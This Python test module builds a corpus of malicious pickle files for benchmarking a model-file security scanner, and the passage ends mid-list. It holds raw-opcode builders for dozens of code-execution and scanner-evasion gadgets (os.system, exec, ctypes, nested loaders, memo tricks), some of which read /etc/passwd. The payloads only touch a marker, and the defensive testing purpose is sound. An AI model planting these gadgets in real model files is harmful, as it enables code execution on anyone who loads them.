"""Malicious corpus: every public bypass class we know, written from raw opcodes and bytes.

Why: the security gate claims to catch what modelscan and picklescan miss (issue 3). That
claim is only as good as the samples it is measured on, so each sample here reproduces one
technique from the public record (picklescan and modelscan advisories and issues, the
JFrog, Sonatype and Trail of Bits write-ups, the Keras/TF/ONNX format reports) with a payload
that would create `marker_dir/<sample id>` if anything ever loaded it. Nothing is loaded,
imported or unpickled while building: callables are plain strings in the byte streams, and
`tests/unit/test_corpus_builds.py` checks the marker directory stays empty.

Technique classes (the `technique` field, used for the per-class breakdown):

- gadget-shell: os/posix/nt.system, popen, spawn*, subprocess.*, _posixsubprocess.fork_exec,
  pty.spawn and stdlib/numpy/torch helpers that shell out (imaplib, pydoc, mailcap,
  ensurepip._run_pip, distutils, numpy exec_command, torch collect_env).
- gadget-exec: exec/eval/compile, runpy, code.InteractiveInterpreter, timeit, bdb/pdb, trace,
  cProfile/profile, numpy runstring.
- gadget-import-resolver: __import__, importlib, pkgutil.resolve_name, sys.modules, dotted
  attribute paths through allowed-looking modules, Python 2 name mapping (fix_imports).
- gadget-trampoline: operator/_operator attrgetter, methodcaller, call; getattr chains;
  functools.partial; map consumed by list.
- gadget-ctypes, gadget-file-write, gadget-network.
- gadget-nested-deserializer: pickle/_pickle/marshal/numpy/torch/yaml/joblib/dill/
  cloudpickle/pandas loaders and zlib/base64-wrapped inner pickles.
- gadget-code-object: types.FunctionType over marshal or CodeType, cloudpickle by value.
- opcode-protocol, opcode-inst-obj-newobj, opcode-stack-global-indirection,
  opcode-ext-registry, opcode-hidden-result, opcode-setstate-append-setitem,
  stream-framing, bounds: see the rows below.
- container-*, mlflow-*, keras, tf-savedmodel, onnx, safetensors, skops: see
  `tests/corpus/malicious_formats.py`.
"""

from __future__ import annotations

import base64
import marshal
import pickle as op
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.corpus import Sample, write_manifest
from tests.corpus.rawbytes import (
    binbytes,
    binstring,
    call,
    call0,
    code_object,
    dct,
    frame,
    function_code,
    getattr_,
    glob,
    integer,
    lst,
    npy_object_array,
    short_binstring,
    stack_glob,
    string0,
    tup,
    uni,
    uni0,
    uni0_escaped,
    value,
    wrap,
)

# A pickle row: (file name, technique class, description, body builder over the marker path).
PickleRow = tuple[str, str, str, Callable[[str], bytes]]


def sh(marker: str) -> str:
    """Shell command that creates the marker."""
    return f"touch {marker}"


def py(marker: str) -> str:
    """Python statement that creates the marker."""
    return f"open({marker!r}, 'w').close()"


def os_system(marker: str) -> bytes:
    """`os.system('touch marker')`: the plainest payload, reused inside containers."""
    return call(glob("os", "system"), uni(sh(marker)))


def os_system_pickle(marker: str, proto: int = 2) -> bytes:
    """A complete pickle stream whose load runs `os.system`."""
    return wrap(os_system(marker) + op.POP + op.NONE, proto)


def touch_argv(marker: str) -> bytes:
    """`['touch', marker]` as a list."""
    return lst(uni("touch"), uni(marker))


def payload_function(marker: str) -> str:
    """Source of a function whose code names `os.system` (compiled, never run)."""
    return f"def predict(*args):\n    import os\n    return os.system({sh(marker)!r})\n"


# ------------------------------------------------------------------ gadget callables


def _fork_exec(m: str) -> bytes:
    args = lst(binbytes(b"touch"), binbytes(m.encode()))
    exe = tup(binbytes(b"/usr/bin/touch"), binbytes(b"/bin/touch"))
    rest = [op.NEWTRUE, op.EMPTY_TUPLE, op.NONE, op.NONE]
    rest += [value(-1)] * 8 + [op.NEWFALSE, op.NEWFALSE, value(-1)]
    rest += [op.NONE, op.NONE, op.NONE, value(-1), op.NONE, op.NEWFALSE]
    return call(glob("_posixsubprocess", "fork_exec"), args, exe, *rest)


SHELL: list[PickleRow] = [
    ("gadget_os_system.pkl", "os.system(cmd)", lambda m: os_system(m)),
    ("gadget_posix_system.pkl", "posix.system: private alias of os.system",
     lambda m: call(glob("posix", "system"), uni(sh(m)))),
    ("gadget_nt_system.pkl", "nt.system: the Windows alias of os.system",
     lambda m: call(glob("nt", "system"), uni(sh(m)))),
    ("gadget_os_popen.pkl", "os.popen(cmd)", lambda m: call(glob("os", "popen"), uni(sh(m)))),
    ("gadget_os_spawnlp.pkl", "os.spawnlp(P_WAIT, 'touch', ...)",
     lambda m: call(glob("os", "spawnlp"), integer(0), uni("touch"), uni("touch"), uni(m))),
    ("gadget_subprocess_popen.pkl", "subprocess.Popen(argv)",
     lambda m: call(glob("subprocess", "Popen"), touch_argv(m))),
    ("gadget_subprocess_call.pkl", "subprocess.call(argv)",
     lambda m: call(glob("subprocess", "call"), touch_argv(m))),
    ("gadget_subprocess_check_call.pkl", "subprocess.check_call(argv)",
     lambda m: call(glob("subprocess", "check_call"), touch_argv(m))),
    ("gadget_subprocess_check_output.pkl", "subprocess.check_output(argv)",
     lambda m: call(glob("subprocess", "check_output"), touch_argv(m))),
    ("gadget_subprocess_run.pkl", "subprocess.run(argv)",
     lambda m: call(glob("subprocess", "run"), touch_argv(m))),
    ("gadget_subprocess_getoutput.pkl", "subprocess.getoutput(cmd)",
     lambda m: call(glob("subprocess", "getoutput"), uni(sh(m)))),
    ("gadget_subprocess_getstatusoutput.pkl", "subprocess.getstatusoutput(cmd)",
     lambda m: call(glob("subprocess", "getstatusoutput"), uni(sh(m)))),
    ("gadget_posixsubprocess_fork_exec.pkl", "_posixsubprocess.fork_exec: private C helper",
     _fork_exec),
    ("gadget_pty_spawn.pkl", "pty.spawn(argv)",
     lambda m: call(glob("pty", "spawn"), touch_argv(m))),
    ("gadget_imaplib_imap4_stream.pkl", "imaplib.IMAP4_stream runs its argument with a shell",
     lambda m: call(glob("imaplib", "IMAP4_stream"), uni(sh(m)))),
    ("gadget_pydoc_pipepager.pkl", "pydoc.pipepager(text, cmd) pipes into a shell command",
     lambda m: call(glob("pydoc", "pipepager"), uni(""), uni(sh(m)))),
    ("gadget_mailcap_findmatch.pkl", "mailcap.findmatch runs the entry's `test` command",
     lambda m: call(
         glob("mailcap", "findmatch"),
         value({"text/plain": [{"view": "true", "test": sh(m)}]}),
         uni("text/plain"),
     )),
    ("gadget_ensurepip_run_pip.pkl", "ensurepip._run_pip: additional_paths is pasted into code",
     lambda m: call(
         glob("ensurepip", "_run_pip"),
         lst(uni("--version")),
         uni(f"__import__('os').system({sh(m)!r}) or []"),
     )),
    ("gadget_distutils_spawn.pkl", "distutils.spawn.spawn(argv)",
     lambda m: call(glob("distutils.spawn", "spawn"), touch_argv(m))),
    ("gadget_numpy_exec_command.pkl", "numpy.distutils.exec_command: shell inside numpy",
     lambda m: call(glob("numpy.distutils.exec_command", "exec_command"), uni(sh(m)))),
    ("gadget_torch_collect_env_run.pkl", "torch.utils.collect_env.run: shell inside torch",
     lambda m: call(glob("torch.utils.collect_env", "run"), uni(sh(m)))),
]  # fmt: skip

EXEC: list[PickleRow] = [
    ("gadget_builtins_exec.pkl", "builtins.exec(source)",
     lambda m: call(glob("builtins", "exec"), uni(py(m)))),
    ("gadget_builtins_eval.pkl", "builtins.eval(expression)",
     lambda m: call(glob("builtins", "eval"), uni(f"__import__('os').system({sh(m)!r})"))),
    ("gadget_builtins_compile_exec.pkl", "exec(compile(source)) with the code built at load",
     lambda m: call(
         glob("builtins", "exec"),
         call(glob("builtins", "compile"), uni(py(m)), uni("<m>"), uni("exec")),
     )),
    ("gadget_runpy_run_code.pkl", "runpy._run_code(source, globals)",
     lambda m: call(glob("runpy", "_run_code"), uni(py(m)), op.EMPTY_DICT)),
    ("gadget_code_interactive_interpreter.pkl", "code.InteractiveInterpreter().runsource",
     lambda m: call(getattr_(call(glob("code", "InteractiveInterpreter")), "runsource"),
                    uni(py(m)))),
    ("gadget_timeit_timeit.pkl", "timeit.timeit(stmt, setup, timer, number=1)",
     lambda m: call(glob("timeit", "timeit"), uni(py(m)), uni("pass"),
                    glob("time", "perf_counter"), integer(1))),
    ("gadget_bdb_run.pkl", "bdb.Bdb().run(source)",
     lambda m: call(getattr_(call(glob("bdb", "Bdb")), "run"), uni(py(m)))),
    ("gadget_pdb_run.pkl", "pdb.Pdb(stdin=StringIO('continue')).run(source): no prompt",
     lambda m: call(getattr_(call(glob("pdb", "Pdb"), uni("tab"),
                                  call(glob("io", "StringIO"), uni("continue\n"))), "run"),
                    uni(py(m)))),
    ("gadget_trace_run.pkl", "trace.Trace().run(source)",
     lambda m: call(getattr_(call(glob("trace", "Trace")), "run"), uni(py(m)))),
    ("gadget_cprofile_run.pkl", "cProfile.run(source)",
     lambda m: call(glob("cProfile", "run"), uni(py(m)))),
    ("gadget_profile_run.pkl", "profile.run(source)",
     lambda m: call(glob("profile", "run"), uni(py(m)))),
    ("gadget_numpy_runstring.pkl", "numpy.testing._private.utils.runstring: exec in numpy",
     lambda m: call(glob("numpy.testing._private.utils", "runstring"), uni(py(m)),
                    op.EMPTY_DICT)),
]  # fmt: skip

RESOLVER: list[PickleRow] = [
    ("gadget_builtins_import_getattr.pkl", "getattr(__import__('os'), 'system')",
     lambda m: call(getattr_(call(glob("builtins", "__import__"), uni("os")), "system"),
                    uni(sh(m)))),
    ("gadget_importlib_import_module.pkl", "getattr(importlib.import_module('os'), 'system')",
     lambda m: call(getattr_(call(glob("importlib", "import_module"), uni("os")), "system"),
                    uni(sh(m)))),
    ("gadget_pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') (GHSA-vvpj)",
     lambda m: call(call(glob("pkgutil", "resolve_name"), uni("os:system")), uni(sh(m)))),
    ("gadget_sys_modules_getattribute.pkl",
     "object.__getattribute__(dict.get(sys.modules, 'os'), 'system'), dotted names (proto 4)",
     lambda m: call(
         call(stack_glob("builtins", "object.__getattribute__"),
              call(stack_glob("builtins", "dict.get"), stack_glob("sys", "modules"), uni("os")),
              uni("system")),
         uni(sh(m)),
     )),
    ("gadget_dotted_posixpath_os_system.pkl", "STACK_GLOBAL('posixpath', 'os.system')",
     lambda m: call(stack_glob("posixpath", "os.system"), uni(sh(m)))),
    ("gadget_dotted_torch_serialization_os.pkl",
     "STACK_GLOBAL('torch.serialization', 'os.system'): allowed prefix, dangerous target",
     lambda m: call(stack_glob("torch.serialization", "os.system"), uni(sh(m)))),
    ("gadget_submodule_asyncio_unix_events.pkl",
     "submodule of a blocked module reaching subprocess (CVE-2025-10157 class)",
     lambda m: call(stack_glob("asyncio.unix_events", "subprocess.Popen"), touch_argv(m))),
    ("gadget_py2_builtin_eval.pkl", "__builtin__.eval mapped to builtins by fix_imports",
     lambda m: call(glob("__builtin__", "eval"), uni(f"__import__('os').system({sh(m)!r})"))),
    ("gadget_py2_commands_getoutput.pkl", "commands.getoutput mapped to subprocess (py2 name)",
     lambda m: call(glob("commands", "getoutput"), uni(sh(m)))),
]  # fmt: skip

TRAMPOLINE: list[PickleRow] = [
    ("gadget_operator_attrgetter.pkl",
     "operator.attrgetter('os.system')(torch.serialization)",
     lambda m: call(call(call(glob("operator", "attrgetter"), uni("os.system")),
                         glob("torch", "serialization")), uni(sh(m)))),
    ("gadget_private_operator_attrgetter.pkl", "_operator.attrgetter on tempfile._os",
     lambda m: call(call(call(glob("_operator", "attrgetter"), uni("system")),
                         glob("tempfile", "_os")), uni(sh(m)))),
    ("gadget_operator_methodcaller.pkl", "operator.methodcaller('system', cmd)(tempfile._os)",
     lambda m: call(call(glob("operator", "methodcaller"), uni("system"), uni(sh(m))),
                    glob("tempfile", "_os"))),
    ("gadget_operator_call.pkl", "operator.call(os.system, cmd)",
     lambda m: call(glob("operator", "call"), glob("os", "system"), uni(sh(m)))),
    ("gadget_builtins_getattr_chain.pkl", "getattr(posixpath.os, 'system')",
     lambda m: call(getattr_(glob("posixpath", "os"), "system"), uni(sh(m)))),
    ("gadget_functools_partial.pkl", "functools.partial(os.system, cmd)()",
     lambda m: call(call(glob("functools", "partial"), glob("os", "system"), uni(sh(m))))),
    ("gadget_list_map.pkl", "list(map(os.system, [cmd])): the lazy call is forced",
     lambda m: call(glob("builtins", "list"),
                    call(glob("builtins", "map"), glob("os", "system"), lst(uni(sh(m)))))),
]  # fmt: skip

CTYPES: list[PickleRow] = [
    ("gadget_ctypes_cdll_system.pkl", "getattr(ctypes.CDLL(None), 'system')(b'cmd')",
     lambda m: call(getattr_(call(glob("ctypes", "CDLL"), op.NONE), "system"),
                    binbytes(sh(m).encode()))),
    ("gadget_ctypes_loadlibrary.pkl", "ctypes.cdll.LoadLibrary('libc.so.6').system",
     lambda m: call(getattr_(call(stack_glob("ctypes", "cdll.LoadLibrary"), uni("libc.so.6")),
                             "system"), binbytes(sh(m).encode()))),
]  # fmt: skip

FILE_WRITE: list[PickleRow] = [
    ("gadget_builtins_open_write.pkl", "builtins.open(path, 'w')",
     lambda m: call(glob("builtins", "open"), uni(m), uni("w"))),
    ("gadget_io_open_write.pkl", "io.open(path, 'w')",
     lambda m: call(glob("io", "open"), uni(m), uni("w"))),
    ("gadget_private_io_open_write.pkl", "_io.open(path, 'w').write(...) via getattr",
     lambda m: call(getattr_(call(glob("_io", "open"), uni(m), uni("w")), "write"),
                    uni("pwned"))),
    ("gadget_io_fileio.pkl", "io.FileIO(path, 'w')",
     lambda m: call(glob("io", "FileIO"), uni(m), uni("w"))),
    ("gadget_codecs_open.pkl", "codecs.open(path, 'w')",
     lambda m: call(glob("codecs", "open"), uni(m), uni("w"))),
    ("gadget_shutil_copy.pkl", "shutil.copy('/etc/passwd', path)",
     lambda m: call(glob("shutil", "copy"), uni("/etc/passwd"), uni(m))),
    ("gadget_os_mkdir.pkl", "os.mkdir(path)", lambda m: call(glob("os", "mkdir"), uni(m))),
    ("gadget_pathlib_touch_getattr.pkl", "getattr(pathlib.Path(path), 'touch')()",
     lambda m: call(getattr_(call(glob("pathlib", "Path"), uni(m)), "touch"))),
    ("gadget_pathlib_path_touch_dotted.pkl", "STACK_GLOBAL('pathlib', 'Path.touch')(Path(p))",
     lambda m: call(stack_glob("pathlib", "Path.touch"), call(glob("pathlib", "Path"), uni(m)))),
    ("gadget_logging_filehandler.pkl", "logging.FileHandler(path) opens the file on init",
     lambda m: call(glob("logging", "FileHandler"), uni(m))),
    ("gadget_zipfile_write.pkl", "zipfile.ZipFile(path, 'w')",
     lambda m: call(glob("zipfile", "ZipFile"), uni(m), uni("w"))),
    ("gadget_tarfile_open_write.pkl", "tarfile.open(path, 'w')",
     lambda m: call(glob("tarfile", "open"), uni(m), uni("w"))),
    ("gadget_tempfile_named.pkl", "tempfile.NamedTemporaryFile(dir=marker dir, delete=False)",
     lambda m: call(glob("tempfile", "NamedTemporaryFile"), uni("w"), value(-1), op.NONE,
                    op.NONE, op.NONE, uni(Path(m).name), uni(str(Path(m).parent)),
                    op.NEWFALSE)),
    ("gadget_dbm_open.pkl", "dbm.open(path, 'c')",
     lambda m: call(glob("dbm", "open"), uni(m), uni("c"))),
]  # fmt: skip

NETWORK: list[PickleRow] = [
    ("gadget_urllib_urlretrieve.pkl", "urllib.request.urlretrieve(url, path)",
     lambda m: call(glob("urllib.request", "urlretrieve"), uni("file:///etc/passwd"), uni(m))),
    ("gadget_urllib_urlopener_retrieve.pkl", "urllib.request.URLopener().retrieve(url, path)",
     lambda m: call(getattr_(call(glob("urllib.request", "URLopener")), "retrieve"),
                    uni("file:///etc/passwd"), uni(m))),
    ("gadget_socket_bind_unix.pkl", "socket.socket(AF_UNIX).bind(path)",
     lambda m: call(getattr_(call(glob("socket", "socket"), integer(1), integer(1)), "bind"),
                    uni(m))),
    ("gadget_private_socket_bind_unix.pkl", "_socket.socket(AF_UNIX).bind(path)",
     lambda m: call(getattr_(call(glob("_socket", "socket"), integer(1), integer(1)), "bind"),
                    uni(m))),
]  # fmt: skip


def _inner(m: str) -> bytes:
    return os_system_pickle(m, 2)


def _bytesio(raw: bytes) -> bytes:
    return call(glob("io", "BytesIO"), binbytes(raw))


NESTED: list[PickleRow] = [
    ("gadget_nested_pickle_loads.pkl", "pickle.loads(inner malicious pickle)",
     lambda m: call(glob("pickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_private_pickle_loads.pkl", "_pickle.loads(inner)",
     lambda m: call(glob("_pickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_pickle_load_bytesio.pkl", "pickle.load(io.BytesIO(inner))",
     lambda m: call(glob("pickle", "load"), _bytesio(_inner(m)))),
    ("gadget_nested_zlib_pickle.pkl", "pickle.loads(zlib.decompress(blob)): payload hidden",
     lambda m: call(glob("pickle", "loads"),
                    call(glob("zlib", "decompress"), binbytes(zlib.compress(_inner(m)))))),
    ("gadget_nested_base64_pickle.pkl", "pickle.loads(base64.b64decode(text))",
     lambda m: call(glob("pickle", "loads"),
                    call(glob("base64", "b64decode"), uni(base64.b64encode(_inner(m)).decode())))),
    ("gadget_nested_numpy_load.pkl", "numpy.load(BytesIO(object .npy), None, allow_pickle=True)",
     lambda m: call(glob("numpy", "load"), _bytesio(npy_object_array(_inner(m))), op.NONE,
                    op.NEWTRUE)),
    ("gadget_nested_torch_load.pkl", "torch.load(BytesIO(inner), None, pickle): weights_only off",
     lambda m: call(glob("torch", "load"), _bytesio(_inner(m)), op.NONE,
                    glob("torch.serialization", "pickle"))),
    ("gadget_nested_yaml_unsafe_load.pkl", "yaml.unsafe_load('!!python/object/apply:os.system')",
     lambda m: call(glob("yaml", "unsafe_load"),
                    uni(f"!!python/object/apply:os.system [{sh(m)!r}]"))),
    ("gadget_nested_yaml_load_unsafeloader.pkl", "yaml.load(text, yaml.UnsafeLoader)",
     lambda m: call(glob("yaml", "load"), uni(f"!!python/object/apply:os.system [{sh(m)!r}]"),
                    glob("yaml", "UnsafeLoader"))),
    ("gadget_nested_joblib_load.pkl", "joblib.load(BytesIO(inner))",
     lambda m: call(glob("joblib", "load"), _bytesio(_inner(m)))),
    ("gadget_nested_dill_loads.pkl", "dill.loads(inner)",
     lambda m: call(glob("dill", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_cloudpickle_loads.pkl", "cloudpickle.loads(inner)",
     lambda m: call(glob("cloudpickle", "loads"), binbytes(_inner(m)))),
    ("gadget_nested_pandas_read_pickle.pkl", "pandas.read_pickle(BytesIO(inner))",
     lambda m: call(glob("pandas", "read_pickle"), _bytesio(_inner(m)))),
]  # fmt: skip


def _code(m: str) -> bytes:
    return code_object(function_code(payload_function(m)))


def cloudpickle_function_call(m: str) -> bytes:
    """Cloudpickle's by-value function (`_make_function` over `_builtin_type('CodeType')`),
    then called: the shape of a `python_model.pkl` whose code uses `os.system`."""
    co = function_code(payload_function(m))
    code_type = call(stack_glob("cloudpickle.cloudpickle", "_builtin_type"), uni("CodeType"))
    fields = code_object(co)
    # code_object() calls types.CodeType; swap in cloudpickle's indirection for the callable.
    fields = fields.replace(glob("types", "CodeType"), code_type, 1)
    globals_ = dct([(uni("__name__"), uni("__main__"))])
    fn = call(
        stack_glob("cloudpickle.cloudpickle", "_make_function"),
        fields,
        globals_,
        uni("predict"),
        op.NONE,
        op.NONE,
    )
    return call(fn)


CODE: list[PickleRow] = [
    ("gadget_code_marshal_functiontype.pkl", "types.FunctionType(marshal.loads(code), {})()",
     lambda m: call(call(glob("types", "FunctionType"),
                         call(glob("marshal", "loads"),
                              binbytes(marshal.dumps(function_code(payload_function(m))))),
                         op.EMPTY_DICT))),
    ("gadget_code_codetype_functiontype.pkl", "types.FunctionType(types.CodeType(...), {})()",
     lambda m: call(call(glob("types", "FunctionType"), _code(m), op.EMPTY_DICT))),
    ("gadget_code_cloudpickle_make_function.pkl",
     "cloudpickle _make_function(_builtin_type('CodeType')(...)) then called",
     cloudpickle_function_call),
]  # fmt: skip


# ------------------------------------------------------------------ opcode tricks


def _proto0(m: str) -> bytes:
    return call0(glob("os", "system"), string0(sh(m)))


def _proto1(m: str) -> bytes:
    return glob("os", "system") + op.MARK + binstring(sh(m)) + op.TUPLE + op.REDUCE


def _proto4(m: str) -> bytes:
    body = uni("os") + op.MEMOIZE + uni("system") + op.MEMOIZE + op.STACK_GLOBAL
    return frame(body + op.MEMOIZE + uni(sh(m)) + op.TUPLE1 + op.REDUCE)


def _proto5(m: str) -> bytes:
    junk = op.BYTEARRAY8 + (4).to_bytes(8, "little") + b"pad!" + op.POP
    return frame(junk + stack_glob("os", "system") + uni(sh(m)) + op.TUPLE1 + op.REDUCE)


PROTOCOLS: list[tuple[str, str, int, Callable[[str], bytes]]] = [
    ("opcode_protocol0_global_string.pkl", "protocol 0: GLOBAL, STRING, MARK/TUPLE", 0, _proto0),
    ("opcode_protocol1_binstring.pkl", "protocol 1: BINSTRING argument", 1, _proto1),
    ("opcode_protocol2_short_binstring.pkl", "protocol 2: SHORT_BINSTRING argument", 2,
     lambda m: call(glob("os", "system"), short_binstring(sh(m)))),
    ("opcode_protocol3_binunicode.pkl", "protocol 3: BINUNICODE argument", 3,
     lambda m: call(glob("os", "system"), op.BINUNICODE + len(sh(m)).to_bytes(4, "little")
                    + sh(m).encode())),
    ("opcode_protocol4_frame_memoize.pkl", "protocol 4: FRAME, MEMOIZE, STACK_GLOBAL", 4,
     _proto4),
    ("opcode_protocol5_bytearray8.pkl", "protocol 5: BYTEARRAY8 then STACK_GLOBAL", 5, _proto5),
]  # fmt: skip


def _newobj_partial(m: str) -> bytes:
    cls = glob("functools", "partial")
    return cls + tup(glob("os", "system"), uni(sh(m))) + op.NEWOBJ + op.EMPTY_TUPLE + op.REDUCE


def _newobj_ex_partial(m: str) -> bytes:
    cls = glob("functools", "partial")
    args = tup(glob("os", "system"), uni(sh(m)))
    return cls + args + op.EMPTY_DICT + op.NEWOBJ_EX + op.EMPTY_TUPLE + op.REDUCE


INSTANTIATION: list[PickleRow] = [
    ("opcode_inst_os_system.pkl", "INST os system: class-instantiation opcode calls a function",
     lambda m: op.MARK + string0(sh(m)) + op.INST + b"os\nsystem\n"),
    ("opcode_inst_subprocess_popen.pkl", "INST subprocess Popen with an argv list",
     lambda m: op.MARK + touch_argv(m) + op.INST + b"subprocess\nPopen\n"),
    ("opcode_obj_os_system.pkl", "OBJ: MARK callable args OBJ",
     lambda m: op.MARK + glob("os", "system") + uni(sh(m)) + op.OBJ),
    ("opcode_newobj_partial.pkl", "NEWOBJ functools.partial(os.system, cmd), then called",
     _newobj_partial),
    ("opcode_newobj_ex_partial.pkl", "NEWOBJ_EX functools.partial, then called",
     _newobj_ex_partial),
    ("opcode_newobj_posixpath_touch.pkl", "NEWOBJ pathlib.PosixPath(path), then .touch()",
     lambda m: call(getattr_(glob("pathlib", "PosixPath") + tup(uni(m)) + op.NEWOBJ, "touch"))),
]  # fmt: skip


def _rot13(text: str) -> bytes:
    return call(glob("codecs", "decode"), uni(zlib_rot13(text)), uni("rot13"))


def zlib_rot13(text: str) -> str:
    """ROT13 without importing codecs at module level (keeps imports obvious)."""
    out = []
    for c in text:
        if "a" <= c <= "z":
            out.append(chr((ord(c) - 97 + 13) % 26 + 97))
        else:
            out.append(c)
    return "".join(out)


def _joined(text: str) -> bytes:
    return call(stack_glob("builtins", "str.join"), uni(""), lst(*(uni(c) for c in text)))


def _memo_text(m: str) -> bytes:
    return (uni0("os") + op.PUT + b"7\n" + op.POP + uni0("system") + op.PUT + b"8\n" + op.POP
            + op.GET + b"7\n" + op.GET + b"8\n" + op.STACK_GLOBAL + uni(sh(m)) + op.TUPLE1
            + op.REDUCE)  # fmt: skip


def _memo_binget(m: str) -> bytes:
    return (uni("os") + op.BINPUT + b"\x05" + op.POP + uni("system") + op.BINPUT + b"\x06"
            + op.POP + op.BINGET + b"\x05" + op.BINGET + b"\x06" + op.STACK_GLOBAL
            + uni(sh(m)) + op.TUPLE1 + op.REDUCE)  # fmt: skip


def _memo_long_binget(m: str) -> bytes:
    a, b = (70000).to_bytes(4, "little"), (70001).to_bytes(4, "little")
    return (uni("os") + op.LONG_BINPUT + a + op.POP + uni("system") + op.LONG_BINPUT + b
            + op.POP + op.LONG_BINGET + a + op.LONG_BINGET + b + op.STACK_GLOBAL
            + uni(sh(m)) + op.TUPLE1 + op.REDUCE)  # fmt: skip


def _memo_confusion(m: str) -> bytes:
    """BINPUT and MEMOIZE mixed so a scanner counting MEMOIZE sees safe names at 0 and 1."""
    return (short_binstring("os") + op.BINPUT + b"\x00" + op.POP
            + short_binstring("system") + op.BINPUT + b"\x01" + op.POP
            + uni("torch._utils") + op.MEMOIZE + op.POP
            + uni("_rebuild_tensor_v2") + op.MEMOIZE + op.POP
            + op.BINGET + b"\x00" + op.BINGET + b"\x01" + op.STACK_GLOBAL
            + uni(sh(m)) + op.TUPLE1 + op.REDUCE)  # fmt: skip


def _memo_overwrite(m: str) -> bytes:
    """Safe names stored first, then the same memo slots overwritten with dangerous ones."""
    return (uni("collections") + op.BINPUT + b"\x00" + op.POP
            + uni("OrderedDict") + op.BINPUT + b"\x01" + op.POP
            + uni("os") + op.BINPUT + b"\x00" + op.POP
            + uni("system") + op.BINPUT + b"\x01" + op.POP
            + op.BINGET + b"\x00" + op.BINGET + b"\x01" + op.STACK_GLOBAL
            + uni(sh(m)) + op.TUPLE1 + op.REDUCE)  # fmt: skip


def _build_setattr(m: str) -> bytes:
    """modelscan #85: BUILD slot-state sets numpy.prod.a='os', .b='system'; dotted GLOBAL reads."""
    state_a = op.NONE + dct([(uni("a"), uni("os"))]) + op.TUPLE2
    state_b = op.NONE + dct([(uni("b"), uni("system"))]) + op.TUPLE2
    return (glob("numpy", "prod") + state_a + op.BUILD + state_b + op.BUILD + op.POP
            + glob("numpy", "prod.a") + glob("numpy", "prod.b") + op.STACK_GLOBAL
            + uni(sh(m)) + op.TUPLE1 + op.REDUCE)  # fmt: skip


STACK_GLOBAL: list[PickleRow] = [
    ("opcode_stack_global_rot13_names.pkl", "names decoded at load: codecs.decode(rot13)",
     lambda m: _rot13("os") + _rot13("system") + op.STACK_GLOBAL + uni(sh(m)) + op.TUPLE1
     + op.REDUCE),
    ("opcode_stack_global_joined_names.pkl", "names built at load with str.join",
     lambda m: _joined("os") + _joined("system") + op.STACK_GLOBAL + uni(sh(m)) + op.TUPLE1
     + op.REDUCE),
    ("opcode_stack_global_memo_get.pkl", "names fetched from memo with text PUT/GET", _memo_text),
    ("opcode_stack_global_memo_binget.pkl", "names fetched with BINPUT/BINGET", _memo_binget),
    ("opcode_stack_global_memo_long_binget.pkl", "names fetched with LONG_BINGET 70000",
     _memo_long_binget),
    ("opcode_stack_global_memo_confusion.pkl", "BINPUT/MEMOIZE mixed: memo index confusion",
     _memo_confusion),
    ("opcode_stack_global_memo_overwrite.pkl", "memo slots overwritten after safe names",
     _memo_overwrite),
    ("opcode_stack_global_build_setattr.pkl", "BUILD sets attributes read back by GLOBAL",
     _build_setattr),
    ("opcode_stack_global_short_binstring.pkl", "module/name as SHORT_BINSTRING (non-unicode)",
     lambda m: short_binstring("os") + short_binstring("system") + op.STACK_GLOBAL
     + uni(sh(m)) + op.TUPLE1 + op.REDUCE),
    ("opcode_stack_global_binstring.pkl", "module/name as BINSTRING",
     lambda m: binstring("os") + binstring("system") + op.STACK_GLOBAL + uni(sh(m))
     + op.TUPLE1 + op.REDUCE),
    ("opcode_stack_global_string.pkl", "module/name as protocol-0 STRING",
     lambda m: string0("os") + string0("system") + op.STACK_GLOBAL + uni(sh(m)) + op.TUPLE1
     + op.REDUCE),
    ("opcode_stack_global_unicode_escapes.pkl", "names as UNICODE \\uXXXX escapes",
     lambda m: uni0_escaped("os") + uni0_escaped("system") + op.STACK_GLOBAL
     + uni0_escaped(sh(m)) + op.TUPLE1 + op.REDUCE),
]  # fmt: skip


def _ext(m: str, opcode: bytes, code: int, width: int) -> bytes:
    register = call(glob("copyreg", "add_extension"), uni("os"), uni("system"), integer(code))
    return (
        register
        + op.POP
        + opcode
        + code.to_bytes(width, "little")
        + uni(sh(m))
        + op.TUPLE1
        + op.REDUCE
    )


EXTENSIONS: list[PickleRow] = [
    ("opcode_ext1.pkl", "copyreg.add_extension then EXT1 names os.system by number",
     lambda m: _ext(m, op.EXT1, 0xF1, 1)),
    ("opcode_ext2.pkl", "copyreg.add_extension then EXT2", lambda m: _ext(m, op.EXT2, 0x1234, 2)),
    ("opcode_ext4.pkl", "copyreg.add_extension then EXT4",
     lambda m: _ext(m, op.EXT4, 0x12345678, 4)),
]  # fmt: skip


def _binpersid(m: str) -> bytes:
    pid = tup(uni("storage"), os_system(m), uni("0"), uni("cpu"), integer(1))
    return pid + op.BINPERSID


HIDDEN: list[PickleRow] = [
    ("opcode_result_popped.pkl", "call result discarded with POP, stream returns None",
     lambda m: os_system(m) + op.POP),
    ("opcode_result_pop_mark.pkl", "call inside MARK ... POP_MARK",
     lambda m: op.MARK + integer(1) + os_system(m) + op.POP_MARK),
    ("opcode_result_built_into_state.pkl", "result hidden in BUILD state of a SimpleNamespace",
     lambda m: call(glob("types", "SimpleNamespace")) + dct([(uni("x"), os_system(m))])
     + op.BUILD),
    ("opcode_result_dict_value.pkl", "result stored as a dict value (SETITEMS)",
     lambda m: dct([(uni("weights"), os_system(m))])),
    ("opcode_persid_after_payload.pkl", "payload, then PERSID aborts a plain load afterwards",
     lambda m: os_system(m) + op.POP + op.PERSID + b"0\n"),
    ("opcode_binpersid_payload_in_pid.pkl", "payload evaluated inside a BINPERSID tuple",
     _binpersid),
]  # fmt: skip


def _setstate_gadget(m: str) -> bytes:
    ns = call(glob("types", "SimpleNamespace"))
    first = dct([(uni("__setstate__"), glob("os", "system"))]) + op.BUILD
    return ns + first + uni(sh(m)) + op.BUILD


def _append_gadget(m: str) -> bytes:
    ns = call(glob("types", "SimpleNamespace"))
    return (
        ns
        + dct([(uni("append"), glob("os", "system"))])
        + op.BUILD
        + op.MARK
        + uni(sh(m))
        + op.APPENDS
    )


SETSTATE: list[PickleRow] = [
    ("opcode_build_setstate_gadget.pkl", "BUILD sets __setstate__=os.system, 2nd BUILD calls it",
     _setstate_gadget),
